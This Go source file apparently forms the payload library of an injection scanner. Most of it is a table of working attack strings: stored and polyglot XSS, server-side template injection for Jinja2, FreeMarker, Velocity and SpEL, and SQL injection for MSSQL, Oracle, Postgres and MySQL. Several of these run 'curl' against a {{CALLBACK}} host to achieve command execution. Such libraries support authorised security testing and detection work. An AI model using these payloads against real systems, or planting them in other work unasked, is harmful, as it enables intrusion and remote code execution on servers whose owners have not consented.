// Package payloads carries the built-in payload library. Templates are
// opaque strings holding a {{CALLBACK}} placeholder; the injector fills in
// the per-attempt callback URL. Each template has a context tag naming the
// vulnerability class and flavor, which drives severity downstream.
package payloads

import (
	"fmt"
	"sort"
)

// Payload is one injectable template with its classification tag.
type Payload struct {
	Template string
	Context  string
}

var library = map[string][]Payload{
	"xss": {
		{`<img src="{{CALLBACK}}/i.png">`, "xss:stored"},
		{`<script src="{{CALLBACK}}/s.js"></script>`, "xss:stored"},
		{`"><svg onload="fetch('{{CALLBACK}}')">`, "xss:stored"},
		{`'><img src='{{CALLBACK}}/q.png'>`, "xss:stored"},
		{`<iframe src="{{CALLBACK}}/f"></iframe>`, "xss:stored"},
	},
	"ssti": {
		{`{{'{{CALLBACK}}'|urlize}}`, "ssti:jinja2"},
		{`{{self.__init__.__globals__.__builtins__.__import__('os').popen('curl {{CALLBACK}}').read()}}`, "ssti:jinja2"},
		{`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("curl {{CALLBACK}}")}`, "ssti:freemarker"},
		{`#set($x=$rt.getRuntime().exec("curl {{CALLBACK}}"))`, "ssti:velocity"},
		{`${T(java.lang.Runtime).getRuntime().exec('curl {{CALLBACK}}')}`, "ssti:spel"},
	},
	"sqli": {
		{`';exec master..xp_cmdshell 'curl {{CALLBACK}}';--`, "sqli:mssql"},
		{`'||(SELECT UTL_HTTP.REQUEST('{{CALLBACK}}') FROM dual)||'`, "sqli:oracle"},
		{`';COPY (SELECT '') TO PROGRAM 'curl {{CALLBACK}}';--`, "sqli:postgres"},
		{`' AND LOAD_FILE(CONCAT('\\\\','{{CALLBACK}}','\\x'))-- -`, "sqli:mysql"},
	},
	"polyglot": {
		{`jaVasCript:/*-/*` + "`" + `/*\` + "`" + `/*'/*"/**/(/* */onerror=fetch('{{CALLBACK}}'))//`, "xss:polyglot"},
		{`'"><img src="{{CALLBACK}}/p.png">{{CALLBACK}}`, "xss:polyglot"},
	},
}

// Categories returns the available category names, sorted.
func Categories() []string {
	names := make([]string, 0, len(library))
	for name := range library {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// ForCategory returns the payloads of a category. The returned slice is a
// copy; callers may modify it.
func ForCategory(name string) ([]Payload, error) {
	templates, ok := library[name]
	if !ok {
		return nil, fmt.Errorf("payloads: unknown category %q (have %v)", name, Categories())
	}
	out := make([]Payload, len(templates))
	copy(out, templates)
	return out, nil
}
